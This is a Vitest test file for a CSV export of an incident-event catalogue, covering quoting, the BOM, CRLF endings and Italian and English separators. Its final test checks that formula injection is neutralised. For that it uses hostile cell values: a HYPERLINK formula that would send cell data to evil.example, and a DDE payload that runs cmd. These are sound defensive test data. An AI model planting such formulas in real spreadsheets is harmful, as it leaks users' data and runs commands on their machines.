/**
 * The CSV event tables: RFC 4180, UTF-8 with BOM, CRLF, the separator of each locale; built from the
 * logic catalogue (test/fixtures/logic/catalog.yaml).
 */
import { describe, expect, it } from 'vitest';
import { csvField, eventsCsv } from '../../src/artifacts/csv.ts';
import type { Catalog } from '../../src/catalog/model.ts';
import { logicCatalog } from '../support/logic-catalog.ts';

const catalog = logicCatalog();

/** A strict RFC 4180 reader: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"' && field === '') quoted = true;
    else if (char === separator) {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else if (char === '\n' || char === '\r' || char === '"') throw new Error(`bare ${JSON.stringify(char)} at ${i}`);
    else field += char;
  }
  if (field !== '' || row.length > 0) throw new Error('last record not terminated by CRLF');
  return rows;
}

describe('events.it.csv and events.en.csv', () => {
  it('start with a UTF-8 BOM and end every record with CRLF', () => {
    for (const locale of ['it', 'en'] as const) {
      const text = eventsCsv(catalog, locale);
      expect(text.charCodeAt(0)).toBe(0xfeff);
      expect(text.endsWith('\r\n')).toBe(true);
      expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    }
  });

  it('use ; in Italian and , in English, one row per event plus the headings', () => {
    const it = parseCsv(eventsCsv(catalog, 'it').slice(1), ';');
    const en = parseCsv(eventsCsv(catalog, 'en').slice(1), ',');
    expect(it).toHaveLength(catalog.events.length + 1);
    expect(en).toHaveLength(catalog.events.length + 1);
    for (const rows of [it, en]) for (const row of rows) expect(row).toHaveLength(8);
    expect(it[0]).toEqual([
      'ID evento',
      'Sezione',
      'Evento',
      'Applicazione',
      'Livello di priorità',
      'Tempo di risposta',
      'Tempo di risposta (minuti)',
      'Deprecato',
    ]);
    expect(en[0]![0]).toBe('Event ID');
  });

  it('shows each event as the guide does, sub-sections numbered 2.3.1', () => {
    const it = parseCsv(eventsCsv(catalog, 'it').slice(1), ';');
    const en = parseCsv(eventsCsv(catalog, 'en').slice(1), ',');
    expect(it[1]).toEqual([
      'voip-gateway-crash',
      '2.1 Degradazione del servizio',
      'Arresto anomalo del gateway VoIP',
      '',
      'P1 CRITICO',
      '< 30 minuti',
      '30',
      'no',
    ]);
    const channels = en.find((row) => row[0] === 'recording-channels-full')!;
    expect(channels).toEqual([
      'recording-channels-full',
      '2.3.1 Capacity saturation',
      'Channels exhausted (Call Recording)',
      'Call Recording',
      'P3 MEDIUM',
      '< 4 hours',
      '240',
      'no',
    ]);
    const legacy = en.find((row) => row[0] === 'webex-user-sync-legacy')!;
    expect(legacy.slice(4)).toEqual(['P4 LOW', '< 1 day', '1440', 'yes, since version 2.1.0']);
  });

  it('quotes separators, quotes and line breaks, and marks deprecated events', () => {
    const tricky = structuredClone(catalog) as Catalog;
    tricky.events[0]!.title = { it: 'Arresto; "VoIP"\ncritico', en: 'Crash, "VoIP"' };
    tricky.events[0]!.deprecated = { since: '1.1.0', reason: { it: 'x', en: 'x' } };
    const it = parseCsv(eventsCsv(tricky, 'it').slice(1), ';');
    const en = parseCsv(eventsCsv(tricky, 'en').slice(1), ',');
    expect(it[1]![2]).toBe('Arresto; "VoIP"\ncritico');
    expect(en[1]![2]).toBe('Crash, "VoIP"');
    expect(it[1]![7]).toBe('sì, dalla versione 1.1.0');
    expect(en[1]![7]).toBe('yes, since version 1.1.0');
    // A comma is plain text in the Italian file, a semicolon in the English one.
    expect(csvField('a, b', ';')).toBe('a, b');
    expect(csvField('a; b', ',')).toBe('a; b');
    expect(csvField('a; b', ';')).toBe('"a; b"');
  });

  it('neutralises formulas (OWASP): a cell that starts with = + - @ tab or CR is read back as text', () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?d="&A1,"click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
    ];
    const hostile = structuredClone(catalog) as Catalog;
    formulas.forEach((formula, index) => {
      hostile.events[index]!.title = { it: formula, en: formula };
    });
    hostile.applications[0]!.name = '=1+1';
    const application = hostile.applications[0]!.id;
    hostile.events[0]!.application = application;
    for (const [locale, separator] of [
      ['it', ';'],
      ['en', ','],
    ] as const) {
      const text = eventsCsv(hostile, locale);
      const rows = parseCsv(text.slice(1), separator);
      formulas.forEach((formula, index) => {
        // Quoted, and the leading apostrophe makes a spreadsheet keep the cell as text.
        expect(rows[index + 1]![2]).toBe(`'${formula}`);
        expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
      });
      expect(rows[1]![3]).toBe("'=1+1");
      // No cell of the file starts with a formula character any more.
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(csvField('a = b', ',')).toBe('a = b');
  });
});
